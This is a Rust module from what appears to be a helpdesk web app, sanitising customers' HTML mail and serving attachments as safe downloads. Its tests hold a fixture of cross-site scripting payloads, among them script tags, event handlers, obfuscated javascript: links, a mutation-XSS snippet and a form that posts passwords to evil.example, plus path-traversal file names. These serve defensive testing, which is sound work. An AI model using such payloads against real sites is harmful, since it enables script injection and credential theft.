//! A customer's HTML mail, shown safely: sanitised with ammonia (no script,
//! event handlers, forms, frames, SVG, styles, `data-*`/`hx-*` attributes,
//! `javascript:` links, meta refresh, or images from anywhere), served from
//! its own route with a `sandbox` Content-Security-Policy that lets nothing
//! load or run, and shown in an `<iframe sandbox>`. The text view stays
//! the default. Attachments are only ever downloads.

use axum::extract::{Path, State};
use axum::http::{header, HeaderValue};
use axum::response::{IntoResponse, Response};

use super::auth::PageCaller;
use super::pages::PageError;
use super::AppState;
use crate::agents::Action;

/// The frame's policy: a sandbox (no script, no forms, no same origin),
/// nothing fetched, inline styles only.
pub const FRAME_POLICY: &str =
    "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'self'; form-action 'none'; base-uri 'none'";

/// The mail's HTML with everything that could run, load or submit removed.
/// Links keep http, https and mailto targets and open nothing by
/// themselves; images lose their source (no remote images).
pub fn sanitise(html: &str) -> String {
    ammonia::Builder::default()
        .url_schemes(["http", "https", "mailto"].into_iter().collect())
        .link_rel(Some("noopener noreferrer nofollow"))
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            ("img", "src" | "srcset") => None,
            _ => Some(value.into()),
        })
        .clean(html)
        .to_string()
}

/// `GET /tickets/{number}/messages/{id}/html`.
pub async fn message_html(
    State(state): State<AppState>,
    PageCaller(caller): PageCaller,
    Path((number, id)): Path<(String, i64)>,
) -> Result<Response, PageError> {
    caller.require(Action::ReadTickets)?;
    let html = state.store.message_html(&number, id).await?;
    let page = format!(
        "<!doctype html><html><head><meta charset=\"utf-8\"><style>body{{font-family:system-ui,sans-serif;font-size:14px;margin:8px;color:#1d2430}}img{{max-width:100%}}</style></head><body>{}</body></html>",
        sanitise(&html)
    );
    let mut res = page.into_response();
    let h = res.headers_mut();
    h.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/html; charset=utf-8"),
    );
    h.insert(
        header::CONTENT_SECURITY_POLICY,
        HeaderValue::from_static(FRAME_POLICY),
    );
    h.insert(
        header::X_FRAME_OPTIONS,
        HeaderValue::from_static("SAMEORIGIN"),
    );
    Ok(res)
}

/// An attachment's name as a download's file name: no path, no quotes,
/// no control characters; ASCII only (the full name goes in `filename*`).
pub fn download_name(name: &str) -> String {
    let base = name.rsplit(['/', '\\']).next().unwrap_or("");
    let ascii: String = base
        .chars()
        .map(|c| {
            if c.is_ascii_graphic() && c != '"' && c != ';' || c == ' ' {
                c
            } else {
                '_'
            }
        })
        .collect();
    let ascii = ascii.trim().trim_start_matches('.').to_string();
    if ascii.is_empty() {
        "attachment".into()
    } else {
        ascii
    }
}

/// `GET /tickets/{number}/attachments/{id}`: always a download of opaque
/// bytes, never shown by the browser.
pub async fn attachment(
    State(state): State<AppState>,
    PageCaller(caller): PageCaller,
    Path((number, id)): Path<(String, i64)>,
) -> Result<Response, PageError> {
    caller.require(Action::ReadTickets)?;
    let (name, data) = state.store.attachment(&number, id).await?;
    let encoded: String = name
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'.' | b'-' | b'_' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect();
    let disposition = format!(
        "attachment; filename=\"{}\"; filename*=UTF-8''{encoded}",
        download_name(&name)
    );
    let mut res = data.into_response();
    let h = res.headers_mut();
    h.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("application/octet-stream"),
    );
    if let Ok(v) = HeaderValue::from_str(&disposition) {
        h.insert(header::CONTENT_DISPOSITION, v);
    }
    h.insert(
        header::CONTENT_SECURITY_POLICY,
        HeaderValue::from_static("sandbox; default-src 'none'"),
    );
    Ok(res)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn download_names_carry_no_path_or_header_tricks() {
        assert_eq!(download_name("rapport.pdf"), "rapport.pdf");
        assert_eq!(download_name("../../etc/passwd"), "passwd");
        assert_eq!(download_name("C:\\x\\evil.exe"), "evil.exe");
        assert_eq!(download_name("a\"; b.html"), "a__ b.html");
        assert_eq!(download_name("verslag é.docx"), "verslag _.docx");
        assert_eq!(download_name(""), "attachment");
        assert_eq!(download_name(".htaccess"), "htaccess");
    }

    /// Mail is the attacker's input: nothing of this may survive.
    pub const HOSTILE: &str = r#"<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><style>body{background:url(https://evil.example/bg.png)}</style>
<script>window.__pwned = 1; document.title = "pwned";</script></head>
<body onload="window.__pwned=2">
<p>Dag servicedesk, <b>dringend</b>: zie <a href="https://example.be/faq">de FAQ</a>.</p>
<img src="https://evil.example/track.gif" onerror="window.__pwned=3" alt="logo">
<a href="javascript:window.__pwned=4">klik</a>
<a href="JaVaScRiPt&#58;alert(1)">klik 2</a>
<form action="https://evil.example/steal"><input name="pw"><button>Send</button></form>
<svg onload="window.__pwned=5"><script>window.__pwned=6</script></svg>
<div style="background:url(https://evil.example/x.png)" data-x="1" hx-get="/api/tickets" hx-trigger="load">Tabel</div>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
</body></html>"#;

    #[test]
    fn hostile_html_keeps_only_harmless_text_and_links() {
        let clean = sanitise(HOSTILE);
        let lower = clean.to_ascii_lowercase();
        for bad in [
            "<script",
            "onload",
            "onerror",
            "javascript",
            "<form",
            "<input",
            "<svg",
            "url(",
            "hx-",
            "data-",
            "<meta",
            "http-equiv",
            "<base",
            "<style",
            "<iframe",
            "<object",
            "evil.example",
            "style=",
            "__pwned",
        ] {
            assert!(!lower.contains(bad), "{bad} survived: {clean}");
        }
        assert!(clean.contains("<b>dringend</b>"), "{clean}");
        assert!(
            clean.contains(r#"href="https://example.be/faq""#),
            "{clean}"
        );
        assert!(clean.contains("noopener"), "{clean}");
        assert!(clean.contains("Tabel"));
    }

    #[test]
    fn the_frame_lets_nothing_run_or_load() {
        assert!(FRAME_POLICY.starts_with("sandbox;"));
        assert!(FRAME_POLICY.contains("default-src 'none'"));
        assert!(!FRAME_POLICY.contains("script-src"));
    }
}
